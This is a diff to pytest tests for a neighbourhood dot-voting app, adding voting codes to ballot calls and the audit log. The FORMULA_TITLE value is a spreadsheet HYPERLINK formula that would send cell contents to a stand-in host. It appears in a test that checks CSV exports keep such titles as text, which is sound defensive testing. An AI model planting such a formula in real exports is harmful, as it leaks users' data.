@@ -28,7 +28,7 @@ from store import (
     results_to_csv,
     support_spot,
 )
-from tests.helpers.db import resident
+from tests.helpers.db import code, resident
 
 LON, LAT = 116.33, 40.01
 
@@ -47,17 +47,17 @@ def test_dots_per_participant_are_enforced(store, compound, planner):
     vote = open_session(store, compound, planner, "s")
     t1, t2 = _topics(store, vote.id, planner, 2)
     with pytest.raises(DataError, match="The ballot uses 4 dots: each participant has 3; take some off"):
-        cast_ballot(store, vote.id, resident(), {t1: 2, t2: 2})
+        cast_ballot(store, vote.id, resident(), {t1: 2, t2: 2}, code=code(store, vote.id))
     with pytest.raises(DataError, match="puts no dots on any topic"):
-        cast_ballot(store, vote.id, resident(), {})
+        cast_ballot(store, vote.id, resident(), {}, code=code(store, vote.id))
     with pytest.raises(DataError, match=r"Dots on topic \d+ is 0: give a whole number from 1"):
-        cast_ballot(store, vote.id, resident(), {t1: 0})
+        cast_ballot(store, vote.id, resident(), {t1: 0}, code=code(store, vote.id))
     with pytest.raises(DataError, match=r"Topics \[999999\] are not open topics of session"):
-        cast_ballot(store, vote.id, resident(), {999999: 1})
-    me = resident()
-    cast_ballot(store, vote.id, me, {t1: 3})  # all dots on one topic is allowed
-    with pytest.raises(ConflictError, match=r"has already voted in session \d+: one ballot per participant"):
-        cast_ballot(store, vote.id, me, {t2: 1})
+        cast_ballot(store, vote.id, resident(), {999999: 1}, code=code(store, vote.id))
+    me, mine = resident(), code(store, vote.id)
+    cast_ballot(store, vote.id, me, {t1: 3}, code=mine)  # all dots on one topic is allowed
+    with pytest.raises(ConflictError, match=r"has voted already in session \d+: one code casts one ballot"):
+        cast_ballot(store, vote.id, me, {t2: 1}, code=mine)
     assert get_session(store, vote.id).ballots == 1
 
 
@@ -71,8 +71,8 @@ def test_spots_become_topics_and_merging_carries_supports_and_dots(store, compou
     t1, t2 = add_topics_from_spots(store, vote.id, planner, [s1.id, s2.id])
     assert (t1.title, t1.spot_ids, t1.supports, t1.category) == ("fire lane blocked", (s1.id,), 2, "parking")
     voter = resident("D")
-    cast_ballot(store, vote.id, voter, {t1.id: 2, t2.id: 3})
-    cast_ballot(store, vote.id, resident("E"), {t2.id: 1})
+    cast_ballot(store, vote.id, voter, {t1.id: 2, t2.id: 3}, code=code(store, vote.id))
+    cast_ballot(store, vote.id, resident("E"), {t2.id: 1}, code=code(store, vote.id))
     merged = merge_topics(store, t1.id, [t2.id], planner)
     assert merged.spot_ids == (s1.id, s2.id)
     assert merged.supports == 3  # A and B wrote the spots, C supported both: three residents
@@ -100,7 +100,7 @@ def test_closing_publishes_ranked_topics_and_the_top_five(store, compound, plann
         {t["T5"]: 2, t["T6"]: 1},
     ]
     for dots in ballots:
-        cast_ballot(store, vote.id, resident(), dots)
+        cast_ballot(store, vote.id, resident(), dots, code=code(store, vote.id))
     results = close_session(store, vote.id, planner)
     titles = {v: k for k, v in t.items()}
     assert [(titles[r.topic_id], r.dots, r.rank, r.top) for r in results.ranked] == [
@@ -118,7 +118,7 @@ def test_closing_publishes_ranked_topics_and_the_top_five(store, compound, plann
     assert results.session.status == "closed"
     assert get_results(store, vote.id) == results
     with pytest.raises(ConflictError, match="is closed: its results are published"):
-        cast_ballot(store, vote.id, resident(), {t["T3"]: 1})
+        cast_ballot(store, vote.id, resident(), {t["T3"]: 1}, code=code(store, vote.id))
     with pytest.raises(ConflictError, match="is closed"):
         close_session(store, vote.id, planner)
     table = list(csv.DictReader(io.StringIO(results_to_csv(results))))
@@ -152,8 +152,8 @@ def test_named_ballots_publish_names_anonymous_ones_keep_none(store, compound, p
     (tn,) = _topics(store, named.id, planner, 1)
     (ta,) = _topics(store, anon.id, planner, 1)
     voter = resident("刘大爷")
-    cast_ballot(store, named.id, voter, {tn: 2})
-    cast_ballot(store, anon.id, voter, {ta: 2})
+    cast_ballot(store, named.id, voter, {tn: 2}, code=code(store, named.id))
+    cast_ballot(store, anon.id, voter, {ta: 2}, code=code(store, anon.id))
     assert close_session(store, named.id, planner).named_ballots == (("刘大爷", {tn: 2}),)
     assert close_session(store, anon.id, planner).named_ballots == ()
     ballot_log = list_audit(store, compound_id=compound, object_type="ballot")
@@ -167,11 +167,12 @@ def test_named_ballots_publish_names_anonymous_ones_keep_none(store, compound, p
 def test_paper_ballots_are_entered_by_the_planner_once(store, compound, planner):
     vote = open_session(store, compound, planner, "s", ballot_mode="named")
     t1, t2 = _topics(store, vote.id, planner, 2)
-    enter_paper_ballot(store, vote.id, planner, {t1: 1, t2: 2}, voter="陈阿姨 3号楼")
-    with pytest.raises(ConflictError, match="already voted"):
-        enter_paper_ballot(store, vote.id, planner, {t1: 1}, voter=" 陈阿姨 3号楼 ")
+    slip = code(store, vote.id)
+    enter_paper_ballot(store, vote.id, planner, {t1: 1, t2: 2}, voter="陈阿姨 3号楼", code=slip)
+    with pytest.raises(ConflictError, match="has voted already"):
+        enter_paper_ballot(store, vote.id, planner, {t1: 1}, voter=" 陈阿姨 3号楼 ", code=slip.lower())
     with pytest.raises(DataError, match="Paper ballot voter is empty"):
-        enter_paper_ballot(store, vote.id, planner, {t1: 1}, voter="")
+        enter_paper_ballot(store, vote.id, planner, {t1: 1}, voter="", code=code(store, vote.id))
     results = close_session(store, vote.id, planner)
     assert (results.ballots, results.paper_ballots) == (1, 1)
     assert results.named_ballots == (("陈阿姨 3号楼", {t1: 1, t2: 2}),)
@@ -193,11 +194,11 @@ def test_topics_only_from_the_sessions_compound(store, compound, planner):
 def test_every_vote_change_is_in_the_audit_log(store, compound, planner):
     vote = open_session(store, compound, planner, "s")
     t1, t2 = _topics(store, vote.id, planner, 2)
-    cast_ballot(store, vote.id, resident("V"), {t1: 1})
+    cast_ballot(store, vote.id, resident("V"), {t1: 1}, code=code(store, vote.id))
     merge_topics(store, t1, [t2], planner)
     close_session(store, vote.id, planner)
     assert [e.action for e in reversed(list_audit(store, compound_id=compound))] == [
-        "session.open", "topic.add", "topic.add", "ballot.cast", "topic.merge", "session.close",
+        "session.open", "topic.add", "topic.add", "codes.issue", "ballot.cast", "topic.merge", "session.close",
     ]  # fmt: skip
 
 
@@ -208,7 +209,7 @@ FORMULA_TITLE = '=HYPERLINK("http://x"&A1,"幼儿园")'
 def test_a_formula_like_title_stays_text(store, compound, planner, tmp_path):
     vote = open_session(store, compound, planner, "s", dots=3, ballot_mode="anonymous")
     topic = add_topic(store, vote.id, planner, FORMULA_TITLE).id
-    cast_ballot(store, vote.id, resident(), {topic: 3})
+    cast_ballot(store, vote.id, resident(), {topic: 3}, code=code(store, vote.id))
     results = close_session(store, vote.id, planner)
     text = results_to_csv(results, tmp_path / "results.csv")
     (row,) = list(csv.DictReader(io.StringIO(text)))
